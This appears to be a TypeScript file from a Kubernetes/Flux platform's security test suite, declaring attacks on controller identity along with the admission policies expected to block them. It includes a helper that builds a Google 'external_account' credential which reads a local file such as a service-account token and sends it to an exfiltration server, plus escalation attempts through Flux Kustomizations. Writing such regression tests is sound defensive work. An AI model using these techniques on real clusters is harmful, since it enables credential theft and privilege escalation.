import { secret } from "../../support/objects/configuration.js";
import { provider } from "../../support/objects/notifications.js";
import { type Fields, NAME, reference } from "../../support/objects/object.js";
import { bucket } from "../../support/objects/sources.js";
import { attacksOf, type DeclaredAttack, type Place } from "../attack.js";
import { creates, sends } from "../attempts.js";
import { change } from "../request.js";
import { syncOf } from "../tenant-objects.js";
import { cannot } from "./messages.js";

const bucketSecret = /a Secret of a Bucket at gcp or azure can disclose the identity of the platform's controller/;
const providerSecret = /a Secret of a Provider of this type can disclose the identity of the platform's controller/;
const providerIdentity = /a Provider without its own account would use the credentials of the platform's controller/;
const reports = /this Flux controller may only change status, finalizers and annotations/;

/** Credentials by which Google's library reads a file, and sends its content to an address. */
function externalAccount({ secretFile, exfiltrationServer }: Place): string {
  return JSON.stringify({
    type: "external_account",
    audience: "any",
    subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
    token_url: exfiltrationServer,
    credential_source: { file: secretFile },
  });
}

/** A Provider by which notification-controller would use, or give away, what is its own. */
function asCredentials(id: string, title: string, message: RegExp, spec: Fields): DeclaredAttack {
  return {
    id,
    title,
    stoppedBy: [{ control: "fleet-notifications", message }],
    attempt: creates((place) => provider(place, { ...spec, secretRef })),
  };
}

const secretRef = { name: "credentials" };

/** The controllers' own identity: having it given away, and what it is worth. */
export const controllerAttacks = attacksOf("escalation", [
  {
    id: "token-as-credentials",
    title: "has source-controller send a file of its own, such as its token, to an address of the tenant's",
    by: "push",
    stoppedBy: [{ control: "fleet-flux-source", message: bucketSecret }],
    attempt: (place) => ({
      kind: "sync",
      object: bucket({ ...place, name: "token-as-credentials" }, new URL(place.organisation).host, {
        provider: "gcp",
        secretRef: { name: "token-as-credentials" },
      }),
      beside: [secret({ ...place, name: "token-as-credentials" }, { serviceaccount: externalAccount(place) })],
      evidence: "secretFile",
    }),
  },
  {
    id: "identity-of-the-node",
    title: "fetches a bucket at Azure with the identity of the node",
    stoppedBy: [{ control: "fleet-flux-source", message: bucketSecret }],
    attempt: creates((place) => bucket(place, "https://acme.blob.example.com", { provider: "azure", secretRef })),
  },
  asCredentials(
    "token-as-topic",
    "has notification-controller send a file of its own with a notification to Google",
    providerSecret,
    { type: "googlepubsub", channel: "a", address: "project", serviceAccountName: "mine" },
  ),
  asCredentials(
    "token-as-event",
    "sends to an event hub with the controller's own identity, by a Secret without a token",
    providerSecret,
    { type: "azureeventhub", channel: "a", address: "hub", serviceAccountName: "mine" },
  ),
  asCredentials(
    "token-as-password",
    "has the controller's token for Azure DevOps sent to another host, by a Secret without a token",
    providerIdentity,
    { type: "azuredevops", address: "https://devops.example.com/a/b/_git/c" },
  ),
  {
    id: "sync-of-a-controller",
    title: "makes a Kustomization in Flux's namespace that is applied as the platform",
    by: "controller",
    stoppedBy: [
      { control: "controller-rights", message: cannot("create", "kustomizations") },
      { control: "fleet-controllers", message: reports },
    ],
    attempt: creates((place) =>
      syncOf({ ...place, namespace: "flux-system" }, NAME, {
        serviceAccountName: "platform-reconciler",
        targetNamespace: "kube-system",
      }),
    ),
  },
  {
    id: "spec-of-the-platform",
    title: "changes what the platform's own Kustomization applies",
    by: "controller",
    stoppedBy: [{ control: "fleet-controllers", message: reports }],
    attempt: sends(() =>
      change(reference("Kustomization", { name: "platform", namespace: "flux-system" }), {
        spec: { path: "./somewhere/else" },
      }),
    ),
  },
]);
